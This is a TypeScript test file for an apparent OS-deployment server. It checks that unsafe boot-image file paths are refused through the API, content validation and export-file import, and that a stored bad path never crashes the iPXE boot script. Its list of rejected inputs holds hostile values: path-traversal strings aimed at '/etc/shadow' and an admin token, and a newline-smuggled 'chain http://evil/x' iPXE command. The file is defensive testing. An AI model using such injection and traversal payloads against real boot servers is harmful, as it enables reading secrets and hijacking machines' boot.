/**
 * Issue 13 L-5: a boot image's boot-file paths (kernel, initrds, wim, bcd, bootSdi) are refused
 * when written — through the API, an export file and any content record — if they are absolute,
 * climb with `..`, use `\`, or hold control or other odd characters; the 400 names the field. A
 * bad one already stored (an old database) never makes `/boot.ipxe` answer 500: the machine it
 * concerns is told its boot image is broken (logged at warn), every other machine boots.
 */
import t, { type Test } from 'tap';
import { validateContent, type NewContent } from '../../../content/model.js';
import type { ContentObject } from '../../../content/model.js';
import { readArchive } from '../../../server/site/export/archive-read.js';
import { apiHarness } from '../../fixtures/api-harness.js';
import { counts, exportTo, planUpload } from '../export/fixture.js';
import { rewrite } from '../export/zip-tools.js';
import { ok, startSite, type Site } from './site.js';

const linux = (kernel: string, initrds: string[] = []) => ({ os: 'linux', kernel, initrds, cmdline: 'quiet' });

const BAD: [what: string, path: string][] = [
  ['climbs out with ..', '../admin.token'],
  ['climbs out in the middle', 'content/PS100001/latest/../../../admin.token'],
  ['absolute', '/etc/shadow'],
  ['a drive letter', 'C:/Windows/boot.wim'],
  ['backslashes', 'Boot\\x64\\bcd'],
  ['a control character', 'vmlinuz\u0007'],
  ['a line break (iPXE command injection)', 'vmlinuz\nchain http://evil/x'],
  ['an iPXE expansion', 'vmlinuz${net0/mac}'],
  ['a space', 'my kernel'],
  ['a percent escape', '%2e%2e/admin.token'],
  ['an empty folder', 'linux//vmlinuz'],
  ['a "." folder', './vmlinuz'],
];

t.test('L-5 the API refuses unsafe boot-file paths with a 400 naming the field', async (t) => {
  const site = await startSite(t);
  for (const [what, bad] of BAD) {
    const r = await site.api('POST', '/content', { kind: 'bootImage', name: 'Bad', boot: linux(bad) });
    t.equal(r.status, 400, `${what}: 400`);
    t.equal(r.json?.field, 'boot.kernel', `${what}: names boot.kernel`);
    t.match(r.json?.message, /^boot\.kernel /, `${what}: says which field`);
  }
  const initrd = await site.api('POST', '/content', { kind: 'bootImage', name: 'Bad', boot: linux('linux/vmlinuz', ['linux/initrd.gz', '../../etc/shadow']) });
  t.match(initrd.json, { error: 'invalid', field: 'boot.initrds.1' });
  for (const field of ['wim', 'bcd', 'bootSdi'] as const) {
    const boot = { os: 'winpe', wim: 'winpe/boot.wim', [field]: '..\\..\\site.db' };
    t.match((await site.api('POST', '/content', { kind: 'bootImage', name: 'Bad', boot })).json, { field: `boot.${field}` }, `winpe ${field}`);
  }
  const listed = (await ok(site, 'GET', '/content')).items as unknown[];
  t.equal(listed.length, 0, 'nothing was created');

  const good = await ok(site, 'POST', '/content', { kind: 'bootImage', name: 'Good', boot: linux('linux/vmlinuz-6.1.0_amd64', ['linux/initrd.img']) });
  const patched = await site.api('PATCH', `/content/${good.id}`, { boot: linux('../admin.token') });
  t.match(patched, { status: 400, json: { field: 'boot.kernel' } }, 'a PATCH too');
  t.equal((await ok(site, 'GET', `/content/${good.id}`)).boot.kernel, 'linux/vmlinuz-6.1.0_amd64', 'unchanged');
  t.equal((await site.api('PATCH', `/content/${good.id}`, { boot: linux(`content/${good.id}/latest/vmlinuz`) })).status, 200, 'a content path is fine');
});

t.test('L-5 every content record is checked: prestaged files and distributions go through validateContent', async (t) => {
  const record = (boot: unknown): NewContent => ({ kind: 'bootImage', id: 'PS100009', name: 'Boot', sourcePath: '', os: 'linux', architecture: 'x64', boot } as NewContent);
  t.throws(() => validateContent(record(linux('../admin.token'))), { code: 'invalid', message: /boot\.kernel "\.\.\/admin\.token" must not climb/ });
  t.throws(() => validateContent(record(linux('ok/vmlinuz', ['/abs']))), { message: /boot\.initrds\.0 .* not absolute/ });
  t.doesNotThrow(() => validateContent(record(linux('ok/vmlinuz', ['ok/initrd']))));
});

t.test('L-5 an export file with an unsafe boot-file path is refused, naming it; nothing is imported', async (t) => {
  const a = await apiHarness(t);
  const image = await a.call('POST', '/content', { body: { kind: 'bootImage', name: 'Linux PE', boot: linux('linux/vmlinuz', ['linux/initrd.gz']) } });
  t.equal(image.status, 201, image.body);
  const ts = await a.call('POST', '/task-sequences', { body: { type: 'custom', name: 'Collect logs', bootImageId: image.json.id } });
  await a.call('POST', `/task-sequences/${ts.json.id}/edits`, { body: { operations: [{ op: 'addStep', type: 'RunCommandLine', properties: { commandLine: 'true' } }] } });
  const out = await exportTo(a, 'boot.zip', { taskSequenceIds: [ts.json.id], includeContent: false });
  const entries = await readArchive(out.zip);
  const b = await apiHarness(t);
  const before = counts(b);
  for (const [field, set] of [
    ['boot.kernel', (boot: { kernel: string }) => (boot.kernel = '../admin.token')],
    ['boot.initrds.0', (boot: { initrds: string[] }) => (boot.initrds[0] = '/var/lib/osdeploy/site.db')],
  ] as const) {
    const zip = await rewrite(entries, (d) => set(d.get(`objects/${image.json.id}.json`).boot));
    const r = await planUpload(b, zip, 'evil.zip');
    t.equal(r.status, 400, r.body);
    t.match(r.json.message, new RegExp(`objects/${image.json.id}\\.json: .*${field.replace('.', '\\.')} `), `names the entry and ${field}`);
  }
  t.same(counts(b), before, 'nothing imported');
});

async function deploy(site: Site, tsId: string, collectionId: string, required: boolean): Promise<string> {
  const body = required
    ? { taskSequenceId: tsId, collectionId, purpose: 'required', assignments: [{ kind: 'asap' }], availability: 'mediaPxe' }
    : { taskSequenceId: tsId, collectionId, availability: 'clientsMediaPxe' };
  return (await ok(site, 'POST', '/deployments', body)).id as string;
}

async function customTs(site: Site, name: string, bootImageId: string): Promise<string> {
  const ts = await ok(site, 'POST', '/task-sequences', { type: 'custom', name, bootImageId });
  await ok(site, 'POST', `/task-sequences/${ts.id}/edits`, { operations: [{ op: 'addStep', type: 'RunCommandLine', properties: { commandLine: 'true' } }] });
  return ts.id as string;
}

async function machine(site: Site, name: string, mac: string): Promise<string> {
  const pc = await ok(site, 'POST', '/computers', { name, macAddresses: [mac] });
  return (await ok(site, 'POST', '/collections', { name: `${name} lab`, directMemberIds: [pc.id] })).id as string;
}

t.test('L-5 a bad boot image already stored: its machine is told it is broken, the others boot; never a 500', async (t: Test) => {
  const site = await startSite(t);
  const good = (await ok(site, 'POST', '/content', { kind: 'bootImage', name: 'Good PE', boot: linux('pe/vmlinuz', ['pe/initrd.gz']) })).id as string;
  const bad = (await ok(site, 'POST', '/content', { kind: 'bootImage', name: 'Old PE', boot: linux('old/vmlinuz') })).id as string;
  const goodTs = await customTs(site, 'Good', good);
  const badTs = await customTs(site, 'Old', bad);
  const [m1, m2, m3] = ['02:00:00:13:05:01', '02:00:00:13:05:02', '02:00:00:13:05:03'];
  await deploy(site, badTs, await machine(site, 'BROKEN', m1), true);
  await deploy(site, goodTs, await machine(site, 'FINE', m2), true);
  const both = await machine(site, 'CHOOSER', m3);
  await deploy(site, badTs, both, false);
  await deploy(site, goodTs, both, false);

  // As an old database holds it: written before the rule, straight into the records.
  const records = site.service.ctx.library.records;
  const stored = (await records.get(bad))! as ContentObject & { boot: unknown };
  await records.put({ ...stored, boot: linux('../admin.token') } as ContentObject);

  const broken = await site.get(`/boot.ipxe?mac=${m1}&arch=x64`);
  t.equal(broken.status, 200, 'a script, not a 500');
  t.match(broken.text, new RegExp(`^#!ipxe\\n[\\s\\S]*echo osdeploy: boot image ${bad} is broken \\(unsafe boot\\.kernel path\\)[\\s\\S]*\\nexit\\n$`), 'it says the boot image is broken and exits to the next device');
  t.notMatch(broken.text, /admin\.token|kernel http/, 'no kernel line, nothing of the bad path');
  const warned = site.logs.filter((l) => l.level === 40 && l.bootImageId === bad);
  t.ok(warned.length >= 1, 'logged at warn');
  t.match(warned[0], { field: 'boot.kernel', msg: new RegExp(`boot image ${bad} is broken: boot\\.kernel "\\.\\./admin\\.token"`) });

  const fine = await site.get(`/boot.ipxe?mac=${m2}&arch=x64`);
  t.equal(fine.status, 200);
  t.match(fine.text, `kernel ${site.url}/boot/pe/vmlinuz `, 'another machine boots its image');

  const chooser = await site.get(`/boot/ipxe/${m3}?arch=x64`);
  t.equal(chooser.status, 200, 'a machine offered the broken image among others gets a script');
  t.match(chooser.text, `kernel ${site.url}/boot/pe/vmlinuz `, 'and boots the good one');
  t.notMatch(chooser.text, /admin\.token/);

  // An administrator can still retire or repair it: only the fields sent are checked.
  t.equal((await site.api('PATCH', `/content/${bad}`, { usable: false, unusableReason: 'broken boot files' })).status, 200, 'retiring it is not refused');
  t.equal((await site.api('PATCH', `/content/${bad}`, { usable: true, boot: linux('old/vmlinuz') })).status, 200, 'repairing it works');
  t.match((await site.get(`/boot.ipxe?mac=${m1}&arch=x64`)).text, `kernel ${site.url}/boot/old/vmlinuz `, 'and its machine boots again');
});
